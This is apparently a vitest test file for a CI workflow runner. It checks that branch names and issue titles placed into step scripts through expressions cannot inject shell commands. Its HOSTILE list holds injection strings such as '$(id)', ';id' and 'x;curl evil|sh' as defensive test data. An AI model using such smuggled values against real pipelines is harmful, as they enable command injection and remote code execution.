import { afterEach, describe, expect, it } from 'vitest';
import { type JobRig, job, jobRig, machineOf, step } from '../../test/support/job-rig.ts';
import type { WorkflowJob } from '../pipeline/plan-workflow.ts';

const WORKFLOW: WorkflowJob = { runsOn: ['x'], permissions: null, environment: null, call: null };
const braces = (source: string) => `\${{ ${source} }}`;

/** Titles and names of branches, as somebody would write them who wants a command to run. */
const HOSTILE = [
  ...['$(id)', '`id`', ';id', '&&id', '||id', '|id', '&id', '\nid', '\r\nid', '>x', '<x', '<(id)', '2>&1'],
  ...[
    '"; id; "',
    "'; id; '",
    '\\"; id #',
    '$IFS',
    '${IFS}id',
    '$HOME',
    '${HOME}',
    '$((1+1))',
    '*',
    '?',
    '[a]',
  ],
  ...[
    '~',
    '~root',
    '!!',
    '#',
    ' x',
    'x ',
    'a b',
    '\t',
    '\\',
    '%0aid',
    '{a,b}',
    'a"b',
    "a'b",
    '\u202ex',
    '\u00a0x',
  ],
  'x;curl evil|sh',
];

let rig: JobRig | null = null;
afterEach(() => {
  rig?.remove();
  rig = null;
});

/** Performs one step made from a template, in a workflow; returns how many processes began. */
async function processesOf(
  run: string,
  text: string,
  from: 'branch' | 'title',
  variables = {},
): Promise<number> {
  let count = 0;
  const machine = machineOf({
    a: (process) => {
      count++;
      process.exit(0);
    },
  });
  rig = jobRig(machine.executor());
  const report = await rig.perform(job([step('a', run, { variables })], { workflow: WORKFLOW }), {
    contexts: {
      git: { branch: from === 'branch' ? text : 'main', ref: from === 'branch' ? `refs/heads/${text}` : '' },
      event: {
        name: 'pull_request',
        payload: {
          issue: { title: from === 'title' ? text : 'plain', state: from === 'title' ? text : 'open' },
          pull_request: { head: { ref: from === 'branch' ? text : 'topic' } },
        },
      },
      run: { id: 'r1' },
      pipeline: { name: 'ci' },
      inputs: {},
      vars: {},
    },
  });
  if (count === 0)
    expect(report).toMatchObject({
      outcome: 'errored',
      cause: { message: expect.stringContaining('give it to the step under `env:`') },
    });
  rig.remove();
  rig = null;
  return count;
}

describe('a step of a workflow', () => {
  it.each(HOSTILE.map((text) => [text]))('starts no process that is made of %j', async (text) => {
    const titles = [
      'github.event.issue.title',
      'github.event.issue.state',
      "format('{0}', github.event.issue.title)",
    ];
    for (const source of titles) expect(await processesOf(`echo ${braces(source)}`, text, 'title')).toBe(0);
    const names = ['github.ref_name', 'github.ref', 'github.head_ref'];
    for (const source of names) expect(await processesOf(`echo ${braces(source)}`, text, 'branch')).toBe(0);
    const variables = { TEXT: braces('github.head_ref') };
    expect(await processesOf(`echo ${braces('env.TEXT')}`, text, 'branch', variables)).toBe(0);
    // What Sluice itself tells in variables is in no expression.
    expect(await processesOf(`echo ${braces('env.GITHUB_HEAD_REF')} >&2`, text, 'branch')).toBe(1);
    // As a value it is anybody's to print.
    expect(await processesOf('echo "$TEXT"', text, 'branch', variables)).toBe(1);
  });

  it.each(['feature/one', 'v1.2.3', 'user@topic', 'a_b-c'])('may be made of the name %s', async (name) => {
    expect(await processesOf(`echo ${braces('github.ref_name')}`, name, 'branch')).toBe(1);
    expect(await processesOf(`echo ${braces('github.head_ref')}`, name, 'branch')).toBe(1);
  });

  it('may be made of words that a forge fills in, and of no option', async () => {
    expect(await processesOf(`echo ${braces('github.event.issue.state')}`, 'closed', 'title')).toBe(1);
    expect(await processesOf(`echo ${braces('github.event.issue.state')}`, '-rf', 'title')).toBe(0);
    expect(await processesOf(`echo ${braces('github.event.issue.title')}`, 'closed', 'title')).toBe(0);
  });
});
